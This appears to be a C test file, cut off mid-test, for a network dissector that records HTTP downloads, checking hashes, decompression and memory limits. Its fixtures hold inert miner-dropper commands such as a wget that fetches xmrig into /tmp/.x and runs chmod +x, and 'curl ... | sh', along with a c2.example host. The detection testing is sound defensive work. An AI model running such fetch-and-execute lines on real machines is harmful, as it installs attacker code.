/*
 * test_http_download.c - the HTTP download dissector on real message bytes
 * (curl- and wget-style requests, nginx- and python-style responses), fed
 * through the engine in miniature (emu_tcp.h) with its lent memory counted:
 * every test ends with nothing lent outstanding. Bodies are made here with
 * zlib (gzip, zlib-wrapped and raw deflate) and hashed here with OpenSSL's
 * one-shot SHA256() to compare with the dissector's streamed hash, at every
 * split point.
 */
#define OPENSSL_SUPPRESS_DEPRECATED
#include <openssl/sha.h>
#include <zlib.h>

#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "check.h"
#include "dissector.h"
#include "cap_fact.h"
#include "emu_tcp.h"
#include "event.h"
#include "filetype.h"
#include "http_download.h"
#include "json.h"

#define D http_download_dissector

/* ---- captured facts ------------------------------------------------------- */

#define CAP_MAX 24
static struct cap_fact facts[CAP_MAX];
static char jsons[CAP_MAX][8192]; /* what the event writer makes of each */
static int nfacts;

static void cap_reset(void)
{
    cap_clear(facts, CAP_MAX, &nfacts);
}

static void cap_emit(struct dctx *cx, const struct fact *f)
{
    struct json j;
    char *out;

    (void)cx;
    if (strcmp(f->type, "http_download") != 0 || strcmp(f->name, "http_download.transfer") != 0 ||
        nfacts >= CAP_MAX) {
        nfacts++;
        return;
    }
    out = jsons[nfacts];
    cap_take(&facts[nfacts++], f);
    json_init(&j, out, sizeof(jsons[0]) - 1);
    json_open(&j);
    event_fact(&j, NULL, f);
    json_close(&j);
    out[j.overflow ? 0 : j.len] = '\0';
}

static const char *fjson(const struct cap_fact *c)
{
    return jsons[c - facts];
}

/* The field names of a fact, joined with ','. */
static const char *fnames(const struct cap_fact *c)
{
    static char buf[1024];
    size_t w = 0;

    buf[0] = '\0';
    for (int i = 0; i < c->nfields && w < sizeof(buf); i++)
        w += (size_t)snprintf(buf + w, sizeof(buf) - w, "%s%s", i ? "," : "", c->f[i].name);
    return buf;
}

static const struct cap_fact *fact(int i)
{
    return i < nfacts && i < CAP_MAX ? &facts[i] : NULL;
}

/* ---- the engine in miniature ---------------------------------------------- */

#define TAIL_CAP (1u << 20)

static struct emu E;

static void start(void)
{
    cap_reset();
    emu_init(&E, &D, 8080, cap_emit, TAIL_CAP);
}

/* Ends the flow; everything lent must be back. */
static void finish(void)
{
    emu_finish(&E);
    CHECK_EQ(E.lent, 0);
    CHECK_EQ(E.lent_blocks, 0);
}

static void send(int dir, const void *data, size_t n)
{
    E.fi.ts_us += 1000;
    emu_offer(&E, dir, data, n);
}

static void send_str(int dir, const char *s)
{
    send(dir, s, strlen(s));
}

static void send_pieces(int dir, const void *data, size_t n, size_t piece)
{
    const uint8_t *p = data;

    for (size_t off = 0; off < n; off += piece)
        send(dir, p + off, n - off < piece ? n - off : piece);
}

/* ---- bodies --------------------------------------------------------------- */

struct buf {
    uint8_t *p;
    size_t n, cap;
};

static void b_add(struct buf *b, const void *p, size_t n)
{
    if (b->n + n > b->cap) {
        b->cap = (b->n + n) * 2 + 64;
        b->p = realloc(b->p, b->cap);
        if (!b->p)
            abort();
    }
    memcpy(b->p + b->n, p, n);
    b->n += n;
}

static void b_str(struct buf *b, const char *s)
{
    b_add(b, s, strlen(s));
}

__attribute__((format(printf, 2, 3))) static void b_fmt(struct buf *b, const char *fmt, ...)
{
    char tmp[256];
    va_list ap;
    int l;

    va_start(ap, fmt);
    l = vsnprintf(tmp, sizeof(tmp), fmt, ap);
    va_end(ap);
    b_add(b, tmp, (size_t)l);
}

static void b_free(struct buf *b)
{
    free(b->p);
    memset(b, 0, sizeof(*b));
}

static void sha_hex(const void *p, size_t n, char out[65])
{
    uint8_t d[SHA256_DIGEST_LENGTH];

    SHA256(p, n, d);
    for (int i = 0; i < 32; i++)
        snprintf(out + 2 * i, 3, "%02x", d[i]);
}

/* Compresses with deflateInit2's windowBits: 31 gzip, 15 zlib, -15 raw. */
static struct buf z_compress(const void *p, size_t n, int wbits)
{
    struct buf b = {0};
    z_stream z;

    memset(&z, 0, sizeof(z));
    if (deflateInit2(&z, 9, Z_DEFLATED, wbits, 8, Z_DEFAULT_STRATEGY) != Z_OK)
        abort();
    b.cap = deflateBound(&z, (uLong)n) + 64;
    b.p = malloc(b.cap);
    if (!b.p)
        abort();
    z.next_in = (Bytef *)(uintptr_t)p;
    z.avail_in = (uInt)n;
    z.next_out = b.p;
    z.avail_out = (uInt)b.cap;
    if (deflate(&z, Z_FINISH) != Z_STREAM_END)
        abort();
    b.n = b.cap - z.avail_out;
    deflateEnd(&z);
    return b;
}

/* The chunked encoding of p[0..n) in chunks of `chunk` bytes, with an extension and a trailer. */
static void b_chunked(struct buf *b, const void *p, size_t n, size_t chunk)
{
    const uint8_t *s = p;

    for (size_t off = 0; off < n; off += chunk) {
        size_t k = n - off < chunk ? n - off : chunk;

        b_fmt(b, off == 0 ? "%llx;name=value\r\n" : "%llx\r\n", (unsigned long long)k);
        b_add(b, s + off, k);
        b_str(b, "\r\n");
    }
    b_str(b, "0\r\nX-Trailer: yes\r\n\r\n");
}

/* An inert dropper in the style of Graboid's xmr.sh (never executed). */
static struct buf script_body(size_t lines)
{
    struct buf b = {0};

    b_str(&b, "#!/bin/bash\n# test fixture: inert, never run\nexport PATH=$PATH:/usr/bin\n");
    for (size_t i = 0; i < lines; i++)
        b_fmt(&b, "echo step %llu; sleep 0\n", (unsigned long long)i);
    b_str(&b, "wget -q http://10.9.8.7/xmrig -O /tmp/.x && chmod +x /tmp/.x\n");
    return b;
}

static const char GET_SCRIPT[] = "GET /xmr.sh HTTP/1.1\r\n"
                                 "Host: 10.9.8.7:8080\r\n"
                                 "User-Agent: curl/7.88.1\r\n"
                                 "Accept: */*\r\n\r\n";

/* ---- tests ---------------------------------------------------------------- */

static void test_probe(void)
{
    struct flow_info fi = {.ipproto = 6};
    const char *tls = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";

    CHECK_EQ(D.probe(&fi, DIR_TO_SERVER, (const uint8_t *)"GET /a HTTP/1.1\r\n", 17), PROBE_YES);
    CHECK_EQ(D.probe(&fi, DIR_TO_SERVER, (const uint8_t *)"GET /a HTTP/1.1\n", 16), PROBE_YES);
    CHECK_EQ(D.probe(&fi, DIR_TO_SERVER, (const uint8_t *)"GET /a HTT", 10), PROBE_MAYBE);
    CHECK_EQ(D.probe(&fi, DIR_TO_SERVER, (const uint8_t *)"POST", 4), PROBE_MAYBE);
    CHECK_EQ(D.probe(&fi, DIR_TO_SERVER, (const uint8_t *)"GET /a HTTP/2.0\r\n", 17), PROBE_NO);
    CHECK_EQ(D.probe(&fi, DIR_TO_SERVER, (const uint8_t *)"SSH-2.0-OpenSSH_9.2\r\n", 21), PROBE_NO);
    CHECK_EQ(D.probe(&fi, DIR_TO_SERVER, (const uint8_t *)tls, 11), PROBE_NO);
    CHECK_EQ(D.probe(&fi, DIR_TO_SERVER, (const uint8_t *)"GET /\r\n", 7), PROBE_NO); /* 0.9 */
    CHECK_EQ(D.probe(&fi, DIR_TO_CLIENT, (const uint8_t *)"HTTP/1.1 200 OK\r\n", 17), PROBE_YES);
    CHECK_EQ(D.probe(&fi, DIR_TO_CLIENT, (const uint8_t *)"HTTP/", 5), PROBE_MAYBE);
    CHECK_EQ(D.probe(&fi, DIR_TO_CLIENT, (const uint8_t *)"HTTP/2 200", 10), PROBE_NO);
    CHECK_EQ(D.probe(&fi, DIR_TO_CLIENT, (const uint8_t *)tls, 11), PROBE_NO);
    CHECK_EQ(D.probe(&fi, DIR_TO_CLIENT, (const uint8_t *)"", 0), PROBE_NO);
    CHECK_STR(D.name, "http");
    CHECK_STR(D.app_proto, "HTTP");
    CHECK(D.state_size < 8192); /* a few KB per flow */
}

/* curl fetching a shell script from an IP-literal host: every field, in order. */
static void test_get_script(void)
{
    struct buf body = script_body(60), resp = {0};
    char want_sha[65];
    const struct cap_fact *f;
    const struct cap_field *bf;

    sha_hex(body.p, body.n, want_sha);
    b_str(&resp, "HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\n"
                 "Date: Sun, 22 Nov 2026 02:00:00 GMT\r\n"
                 "Content-Type: application/octet-stream\r\n");
    b_fmt(&resp, "Content-Length: %zu\r\n", body.n);
    b_str(&resp, "Connection: keep-alive\r\nAccept-Ranges: bytes\r\n\r\n");
    b_add(&resp, body.p, body.n);
    start();
    send_str(DIR_TO_SERVER, GET_SCRIPT);
    send_pieces(DIR_TO_CLIENT, resp.p, resp.n - 1, 1448);
    CHECK_EQ(nfacts, 0);
    CHECK(E.lent > 0); /* the script sample is lent until the fact is out */
    send(DIR_TO_CLIENT, resp.p + resp.n - 1, 1);
    CHECK_EQ(nfacts, 1); /* emitted when the body ends, not at the flow's end */
    CHECK_EQ(E.lent, 0);
    finish();
    CHECK_EQ(nfacts, 1);
    f = fact(0);
    CHECK_STR(fnames(f), "url,hostname,http_method,status,user_agent,content_type,server,"
                         "file_type,file_detail,size,sha256,truncated,host_is_ip,body");
    CHECK_STR(fstr(f, "url"), "http://10.9.8.7:8080/xmr.sh");
    CHECK_STR(f->subject, "http://10.9.8.7:8080/xmr.sh");
    CHECK_STR(fstr(f, "hostname"), "10.9.8.7");
    CHECK_STR(fstr(f, "http_method"), "GET");
    CHECK_EQ(fnum(f, "status"), 200);
    CHECK_STR(fstr(f, "user_agent"), "curl/7.88.1");
    CHECK_STR(fstr(f, "content_type"), "application/octet-stream");
    CHECK_STR(fstr(f, "server"), "nginx/1.22.1");
    CHECK_STR(fstr(f, "file_type"), "shell-script");
    CHECK_STR(fstr(f, "file_detail"), "bash");
    CHECK_EQ(fnum(f, "size"), body.n);
    CHECK_STR(fstr(f, "sha256"), want_sha);
    CHECK_EQ(fnum(f, "truncated"), 0);
    CHECK_EQ(fnum(f, "host_is_ip"), 1);
    bf = field(f, "body");
    CHECK(bf && (bf->flags & FV_HIDDEN));
    CHECK(bf && bf->len == body.n && memcmp(bf->s, body.p, body.n) == 0);
    /* the event writer leaves the hidden sample out */
    CHECK(strstr(fjson(f), "\"sha256\":\"") != NULL);
    CHECK(strstr(fjson(f), "\"body\"") == NULL);
    CHECK(strstr(fjson(f), "wget -q") == NULL);
    b_free(&body);
    b_free(&resp);
}

/* One kept-alive connection, three downloads: ELF (length), HTML (chunked), JSON (gzip). */
static void test_keepalive_types(void)
{
    uint8_t elf[20000];
    FILE *fp = fopen("/bin/true", "rb");
    size_t elf_n = fp ? fread(elf, 1, sizeof(elf), fp) : 0;
    const char *html =
        "<!DOCTYPE html>\n<html><head><title>Welcome to nginx!</title></head>\n"
        "<body><script>curl = 1;\nwget = 2;</script><h1>Welcome</h1></body></html>\n";
    const char *json = "{\"version\":\"1.2.3\",\"latest\":true,\"assets\":[1,2,3]}";
    struct buf r = {0}, gz = z_compress(json, strlen(json), 31);
    char sha_elf[65], sha_html[65], sha_json[65];

    if (fp)
        fclose(fp);
    if (elf_n < 64) { /* no /bin/true: an ELF header and padding */
        memset(elf, 0, sizeof(elf));
        memcpy(elf,
               "\x7f"
               "ELF\x02\x01\x01",
               7);
        elf[18] = 62;
        elf_n = sizeof(elf);
    }
    sha_hex(elf, elf_n, sha_elf);
    sha_hex(html, strlen(html), sha_html);
    sha_hex(json, strlen(json), sha_json);
    start();
    send_str(DIR_TO_SERVER, "GET /bin/kdevtmpfsi HTTP/1.1\r\nHost: c2.example\r\n"
                            "User-Agent: Wget/1.21.3\r\nAccept: */*\r\n"
                            "Accept-Encoding: identity\r\nConnection: Keep-Alive\r\n\r\n");
    b_str(&r, "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/plain\r\n");
    b_fmt(&r, "Content-Length: %zu\r\n\r\n", elf_n);
    b_add(&r, elf, elf_n);
    send_pieces(DIR_TO_CLIENT, r.p, r.n, 1000);
    r.n = 0;
    send_str(DIR_TO_SERVER, "GET /index.html HTTP/1.1\r\nHost: c2.example\r\n"
                            "User-Agent: Wget/1.21.3\r\n\r\n");
    b_str(&r, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n");
    b_chunked(&r, html, strlen(html), 40);
    send(DIR_TO_CLIENT, r.p, r.n);
    r.n = 0;
    send_str(DIR_TO_SERVER, "GET /api/v1/latest HTTP/1.1\r\nHost: C2.Example:80\r\n"
                            "User-Agent: Wget/1.21.3\r\n\r\n");
    b_str(&r, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n");
    b_fmt(&r, "Content-Length: %zu\r\n\r\n", gz.n);
    b_add(&r, gz.p, gz.n);
    send(DIR_TO_CLIENT, r.p, r.n);
    CHECK_EQ(nfacts, 3);
    finish();
    CHECK_EQ(nfacts, 3);
    CHECK_STR(fstr(fact(0), "url"), "http://c2.example/bin/kdevtmpfsi");
    CHECK_STR(fstr(fact(0), "file_type"), "elf");
    CHECK(fstr(fact(0), "file_detail") && strncmp(fstr(fact(0), "file_detail"), "ELF ", 4) == 0);
    CHECK_STR(fstr(fact(0), "sha256"), sha_elf);
    CHECK_EQ(fnum(fact(0), "size"), elf_n);
    CHECK_EQ(fnum(fact(0), "host_is_ip"), 0);
    CHECK(field(fact(0), "body") == NULL); /* not a script: no sample */
    CHECK_STR(fstr(fact(1), "file_type"), "other");
    CHECK_STR(fstr(fact(1), "file_detail"), "html");
    CHECK_STR(fstr(fact(1), "sha256"), sha_html);
    CHECK_EQ(fnum(fact(1), "size"), strlen(html));
    CHECK(fnum(fact(1), "wire_size") > (long long)strlen(html)); /* chunk framing */
    CHECK_STR(fstr(fact(2), "url"), "http://C2.Example:80/api/v1/latest");
    CHECK_STR(fstr(fact(2), "hostname"), "c2.example");
    CHECK_STR(fstr(fact(2), "file_detail"), "json");
    CHECK_STR(fstr(fact(2), "content_encoding"), "gzip");
    CHECK_EQ(fnum(fact(2), "decoded"), 1);
    CHECK_STR(fstr(fact(2), "sha256"), sha_json);
    CHECK_EQ(fnum(fact(2), "size"), strlen(json));
    CHECK_EQ(fnum(fact(2), "wire_size"), gz.n);
    CHECK_STR(fnames(fact(2)), "url,hostname,http_method,status,user_agent,content_type,"
                               "content_encoding,file_type,file_detail,size,wire_size,sha256,"
                               "truncated,decoded,host_is_ip");
    b_free(&r);
    b_free(&gz);
}

/* Pipelined: three requests in one segment, three responses in one segment. */
static void test_pipelined(void)
{
    start();
    send_str(DIR_TO_SERVER, "GET /a.sh HTTP/1.1\r\nHost: h\r\n\r\n"
                            "GET /b.py HTTP/1.1\r\nHost: h\r\n\r\n"
                            "HEAD /c HTTP/1.1\r\nHost: h\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 24\r\n\r\n"
                            "#!/bin/sh\nwget x; sh x\n\n"
                            "HTTP/1.1 404 Not Found\r\nContent-Length: 9\r\n\r\nnot found"
                            "HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n");
    CHECK_EQ(nfacts, 3);
    finish();
    CHECK_EQ(nfacts, 3);
    CHECK_STR(fstr(fact(0), "url"), "http://h/a.sh");
    CHECK_EQ(fnum(fact(0), "status"), 200);
    CHECK_STR(fstr(fact(0), "file_type"), "shell-script");
    CHECK(field(fact(0), "body") && field(fact(0), "body")->len == 24);
    CHECK_STR(fstr(fact(1), "url"), "http://h/b.py");
    CHECK_EQ(fnum(fact(1), "status"), 404);
    CHECK_EQ(fnum(fact(1), "size"), 9);
    CHECK_STR(fstr(fact(2), "http_method"), "HEAD");
    CHECK_EQ(fnum(fact(2), "status"), 200);
    CHECK(field(fact(2), "size") == NULL); /* HEAD: no body, despite Content-Length */
    CHECK(field(fact(2), "file_type") == NULL);
    CHECK(field(fact(2), "sha256") == NULL);
}

/* A chunked body at every split point and one byte at a time: the same hash. */
static void test_chunked_splits(void)
{
    struct buf body = script_body(8), r = {0};
    char want[65];
    int bad = 0;

    sha_hex(body.p, body.n, want);
    b_str(&r, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n");
    b_chunked(&r, body.p, body.n, 37);
    for (size_t k = 1; k < r.n; k++) {
        start();
        send_str(DIR_TO_SERVER, GET_SCRIPT);
        send(DIR_TO_CLIENT, r.p, k);
        send(DIR_TO_CLIENT, r.p + k, r.n - k);
        finish();
        if (nfacts != 1 || !fstr(fact(0), "sha256") || strcmp(fstr(fact(0), "sha256"), want) ||
            fnum(fact(0), "size") != (long long)body.n || fnum(fact(0), "truncated") != 0)
            bad++;
    }
    CHECK_EQ(bad, 0);
    start();
    send_str(DIR_TO_SERVER, GET_SCRIPT);
    send_pieces(DIR_TO_CLIENT, r.p, r.n, 1);
    finish();
    CHECK_EQ(nfacts, 1);
    CHECK_STR(fstr(fact(0), "sha256"), want);
    CHECK_EQ(fnum(fact(0), "size"), body.n);
    CHECK_EQ(fnum(fact(0), "wire_size"), r.n - strlen("HTTP/1.1 200 OK\r\nTransfer-Encoding: "
                                                      "chunked\r\n\r\n"));
    CHECK_STR(fstr(fact(0), "file_type"), "shell-script");
    b_free(&body);
    b_free(&r);
}

/*
 * A compressed body (wbits as deflateInit2) under Content-Encoding `enc`, the
 * request without Accept-Encoding, at every split point and byte by byte.
 */
static void check_encoded(const char *enc, int wbits, int chunked)
{
    struct buf body = script_body(120), z = z_compress(body.p, body.n, wbits), r = {0};
    char want[65];
    int bad = 0;
    size_t head;

    sha_hex(body.p, body.n, want);
    b_str(&r, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: ");
    b_str(&r, enc);
    if (chunked) {
        b_str(&r, "\r\nTransfer-Encoding: chunked\r\n\r\n");
        head = r.n;
        b_chunked(&r, z.p, z.n, 100);
    } else {
        b_fmt(&r, "\r\nContent-Length: %zu\r\n\r\n", z.n);
        head = r.n;
        b_add(&r, z.p, z.n);
    }
    for (size_t k = 1; k < r.n; k++) {
        start();
        send_str(DIR_TO_SERVER, "GET /x.sh HTTP/1.1\r\nHost: h\r\nUser-Agent: curl/8.0\r\n\r\n");
        send(DIR_TO_CLIENT, r.p, k);
        send(DIR_TO_CLIENT, r.p + k, r.n - k);
        finish();
        if (nfacts != 1 || !fstr(fact(0), "sha256") || strcmp(fstr(fact(0), "sha256"), want) ||
            fnum(fact(0), "size") != (long long)body.n || fnum(fact(0), "decoded") != 1 ||
            fnum(fact(0), "truncated") != 0)
            bad++;
    }
    CHECK_EQ(bad, 0);
    start();
    send_str(DIR_TO_SERVER, "GET /x.sh HTTP/1.1\r\nHost: h\r\n\r\n");
    send_pieces(DIR_TO_CLIENT, r.p, r.n, 1);
    CHECK(E.lent_peak > 32768); /* the inflate window came from the engine */
    finish();
    CHECK_EQ(nfacts, 1);
    CHECK_STR(fstr(fact(0), "sha256"), want);
    CHECK_EQ(fnum(fact(0), "size"), body.n);
    CHECK_EQ(fnum(fact(0), "wire_size"), r.n - head);
    CHECK_EQ(fnum(fact(0), "decoded"), 1);
    CHECK_STR(fstr(fact(0), "content_encoding"), enc);
    CHECK_STR(fstr(fact(0), "file_type"), "shell-script");
    /* the sample is the decoded text, sized to the cap (the length is not known) */
    CHECK(field(fact(0), "body") && field(fact(0), "body")->len == body.n &&
          memcmp(field(fact(0), "body")->s, body.p, body.n) == 0);
    b_free(&body);
    b_free(&z);
    b_free(&r);
}

static void test_encodings(void)
{
    check_encoded("gzip", 31, 0);
    check_encoded("x-gzip", 31, 1);
    check_encoded("deflate", 15, 0);  /* zlib-wrapped, as RFC 9110 says */
    check_encoded("deflate", -15, 1); /* raw, as some servers send it */
    check_encoded("gzip", 15, 0);     /* zlib data called gzip */
}

/* A server that says gzip and sends plain text: read as it is, decoded false. */
static void test_not_really_gzip(void)
{
    const char *s = "#!/bin/sh\ncurl -s http://x/y | sh\n";
    char want[65];

    sha_hex(s, strlen(s), want);
    start();
    send_str(DIR_TO_SERVER, "GET /y HTTP/1.1\r\nHost: x\r\n\r\n");
    send_str(DIR_TO_CLIENT,
             "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 34\r\n\r\n"
             "#!/bin/sh\ncurl -s http://x/y | sh\n");
    finish();
    CHECK_EQ(nfacts, 1);
    CHECK_EQ(fnum(fact(0), "decoded"), 0);
    CHECK_STR(fstr(fact(0), "file_type"), "shell-script");
    CHECK_STR(fstr(fact(0), "sha256"), want);
    CHECK_EQ(fnum(fact(0), "truncated"), 0);
}

/* No memory lent: the gzip body cannot be decoded; the raw bytes are sniffed. */
static void test_alloc_refused(void)
{
    struct buf body = script_body(50), z = z_compress(body.p, body.n, 31), r = {0};
    size_t budgets[] = {0, 1000};

    b_str(&r, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n");
    b_fmt(&r, "Content-Length: %zu\r\n\r\n", z.n);
    b_add(&r, z.p, z.n);
    for (size_t i = 0; i < sizeof(budgets) / sizeof(budgets[0]); i++) {
        start();
        if (budgets[i] == 0)
            E.cx.alloc = NULL; /* a harness that lends nothing */
        else
            E.lent_budget = budgets[i]; /* not even the inflate state */
        send_str(DIR_TO_SERVER, "GET /x HTTP/1.1\r\nHost: h\r\n\r\n");
        send(DIR_TO_CLIENT, r.p, r.n);
        finish();
        CHECK_EQ(nfacts, 1);
        CHECK_EQ(fnum(fact(0), "decoded"), 0);
        CHECK_EQ(fnum(fact(0), "truncated"), 1);
        CHECK_STR(fstr(fact(0), "file_type"), "archive"); /* the gzip bytes as they came */
        CHECK(field(fact(0), "sha256") == NULL);
        if (budgets[i])
            CHECK(E.lent_refused > 0);
    }
    /*
     * Room for the inflate state, not for the window: a body inflated in one
     * call needs none, one spread over segments stops at the first refusal.
     */
    start();
    E.lent_budget = 12000;
    send_str(DIR_TO_SERVER, "GET /x HTTP/1.1\r\nHost: h\r\n\r\n");
    send_pieces(DIR_TO_CLIENT, r.p, r.n, 150);
    finish();
    CHECK_EQ(nfacts, 1);
    CHECK(E.lent_refused > 0);
    CHECK_EQ(fnum(fact(0), "decoded"), 1);
    CHECK_EQ(fnum(fact(0), "truncated"), 1);
    CHECK(fnum(fact(0), "size") > 0 && fnum(fact(0), "size") < (long long)body.n);
    CHECK_STR(fstr(fact(0), "file_type"), "shell-script");
    CHECK(field(fact(0), "sha256") == NULL);
    b_free(&body);
    b_free(&z);
    b_free(&r);
}

/* 8 MiB of zeros in 8 KB of gzip: decoding stops early; all memory returned. */
static void test_bomb(void)
{
    size_t n = 8u << 20;
    uint8_t *zeros = calloc(1, n);
    struct buf z, r = {0};

    if (!zeros)
        abort();
    z = z_compress(zeros, n, 31);
    b_str(&r, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n");
    b_fmt(&r, "Content-Length: %zu\r\n\r\n", z.n);
    b_add(&r, z.p, z.n);
    start();
    send_str(DIR_TO_SERVER, "GET /bomb HTTP/1.1\r\nHost: h\r\n\r\n");
    send_pieces(DIR_TO_CLIENT, r.p, r.n, 1460);
    finish();
    CHECK_EQ(nfacts, 1);
    CHECK_EQ(fnum(fact(0), "truncated"), 1);
    CHECK(fnum(fact(0), "size") > (long long)HTTP_BOMB_AFTER);
    CHECK(fnum(fact(0), "size") < (long long)n);
    CHECK_EQ(fnum(fact(0), "wire_size"), z.n); /* the framing was still followed */
    CHECK(field(fact(0), "sha256") == NULL);
    /* and the connection goes on */
    free(zeros);
    b_free(&z);
    b_free(&r);
}

/* A plain body past HTTP_DECODE_MAX: counted whole, hashed no further, no sha256. */
static void test_decode_limit(void)
{
    size_t chunk = 1u << 20, total = HTTP_DECODE_MAX + 100;
    uint8_t *block = malloc(chunk);
    char head[128];

    if (!block)
        abort();
    memset(block, 'A', chunk);
    start();
    send_str(DIR_TO_SERVER, "GET /big.iso HTTP/1.1\r\nHost: mirror\r\n\r\n");
    snprintf(head, sizeof(head), "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\n", total);
    send_str(DIR_TO_CLIENT, head);
    for (size_t off = 0; off < total; off += chunk)
        send(DIR_TO_CLIENT, block, total - off < chunk ? total - off : chunk);
    CHECK_EQ(nfacts, 1);
    finish();
    CHECK_EQ(fnum(fact(0), "size"), total);
    CHECK_EQ(fnum(fact(0), "truncated"), 1);
    CHECK(field(fact(0), "sha256") == NULL);
    free(block);
}

static void test_206_304(void)
{
    start();
    send_str(DIR_TO_SERVER, "GET /xmrig HTTP/1.1\r\nHost: h\r\nRange: bytes=100-199\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 100-199/1000\r\n"
                            "Content-Length: 100\r\n\r\n");
    for (int i = 0; i < 10; i++)
        send_str(DIR_TO_CLIENT, "0123456789");
    send_str(DIR_TO_SERVER, "GET /small HTTP/1.1\r\nHost: h\r\nRange: bytes=0-\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-9/10\r\n"
                            "Content-Length: 10\r\n\r\n0123456789");
    send_str(DIR_TO_SERVER, "GET /xmr.sh HTTP/1.1\r\nHost: h\r\n"
                            "If-Modified-Since: Sat, 21 Nov 2026 10:00:00 GMT\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 304 Not Modified\r\nServer: nginx\r\n\r\n");
    finish();
    CHECK_EQ(nfacts, 3);
    CHECK_EQ(fnum(fact(0), "status"), 206);
    CHECK_EQ(fnum(fact(0), "truncated"), 1); /* part of a file */
    CHECK_EQ(fnum(fact(0), "size"), 100);
    CHECK(field(fact(0), "sha256") == NULL);
    CHECK_STR(fstr(fact(0), "content_range"), "bytes 100-199/1000");
    CHECK_STR(fstr(fact(0), "range"), "bytes=100-199");
    CHECK_EQ(fnum(fact(1), "truncated"), 0); /* the whole file in one part */
    CHECK(field(fact(1), "sha256") != NULL);
    CHECK_EQ(fnum(fact(2), "status"), 304);
    CHECK_STR(fnames(fact(2)), "url,hostname,http_method,status,server,truncated,host_is_ip");
}

/* HEAD then GET on one connection: the HEAD's Content-Length frames nothing. */
static void test_head(void)
{
    start();
    send_str(DIR_TO_SERVER, "HEAD /x.sh HTTP/1.1\r\nHost: h\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n");
    send_str(DIR_TO_SERVER, "GET /x.sh HTTP/1.1\r\nHost: h\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n#!/bin/sh\necho hi!!\n");
    finish();
    CHECK_EQ(nfacts, 2);
    CHECK_STR(fstr(fact(0), "http_method"), "HEAD");
    CHECK(field(fact(0), "size") == NULL);
    CHECK_STR(fstr(fact(1), "http_method"), "GET");
    CHECK_EQ(fnum(fact(1), "size"), 20);
    CHECK_STR(fstr(fact(1), "file_type"), "shell-script");
}

/* Bytes lost inside bodies: truncated, no hash; a length-framed body keeps its place. */
static void test_gaps(void)
{
    struct buf body = script_body(100), r = {0};
    size_t half = body.n / 2;

    /* Content-Length: the gap is skipped, the next response still pairs */
    b_str(&r, "HTTP/1.1 200 OK\r\n");
    b_fmt(&r, "Content-Length: %zu\r\n\r\n", body.n);
    start();
    send_str(DIR_TO_SERVER, GET_SCRIPT);
    send(DIR_TO_CLIENT, r.p, r.n);
    send(DIR_TO_CLIENT, body.p, half);
    D.gap(E.st, &E.cx, DIR_TO_CLIENT, 100);
    send(DIR_TO_CLIENT, body.p + half + 100, body.n - half - 100);
    CHECK_EQ(nfacts, 1);
    send_str(DIR_TO_SERVER, "GET /next HTTP/1.1\r\nHost: h\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc");
    finish();
    CHECK_EQ(nfacts, 2);
    CHECK_EQ(fnum(fact(0), "truncated"), 1);
    CHECK(field(fact(0), "sha256") == NULL);
    CHECK_EQ(fnum(fact(0), "size"), body.n);
    CHECK_STR(fstr(fact(0), "file_type"), "shell-script");
    CHECK_STR(fstr(fact(1), "url"), "http://h/next");
    CHECK(field(fact(1), "sha256") != NULL);

    /* chunked: the framing is lost, the direction is given up, requests reported at end */
    r.n = 0;
    b_str(&r, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n");
    b_chunked(&r, body.p, body.n, 500);
    start();
    send_str(DIR_TO_SERVER, GET_SCRIPT);
    send(DIR_TO_CLIENT, r.p, r.n / 2);
    D.gap(E.st, &E.cx, DIR_TO_CLIENT, 300);
    CHECK_EQ(nfacts, 1);
    send(DIR_TO_CLIENT, r.p + r.n / 2 + 300, r.n - r.n / 2 - 300);
    send_str(DIR_TO_SERVER, "GET /after HTTP/1.1\r\nHost: h\r\n\r\n");
    send_str(DIR_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc");
    finish();
    CHECK_EQ(nfacts, 2);
    CHECK_EQ(fnum(fact(0), "truncated"), 1);
    CHECK(field(fact(0), "sha256") == NULL);
    CHECK_STR(fstr(fact(1), "url"), "http://h/after");
    CHECK(field(fact(1), "status") == NULL);

    /* gzip: the inflater cannot go on; its memory goes back at once */
    {
        struct buf z = z_compress(body.p, body.n, 31);

        r.n = 0;
        b_str(&r, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n");
        b_fmt(&r, "Content-Length: %zu\r\n\r\n", z.n);
        start();
        send_str(DIR_TO_SERVER, GET_SCRIPT);
        send(DIR_TO_CLIENT, r.p, r.n);
        send(DIR_TO_CLIENT, z.p, 200);
        CHECK(E.lent > 0);
        D.gap(E.st, &E.cx, DIR_TO_CLIENT, 50);
        CHECK_EQ(E.lent, 0);
        send(DIR_TO_CLIENT, z.p + 250, z.n - 250);
        finish();
        CHECK_EQ(nfacts, 1);
        CHECK_EQ(fnum(fact(0), "truncated"), 1);
        CHECK_EQ(fnum(fact(0), "wire_size"), z.n);
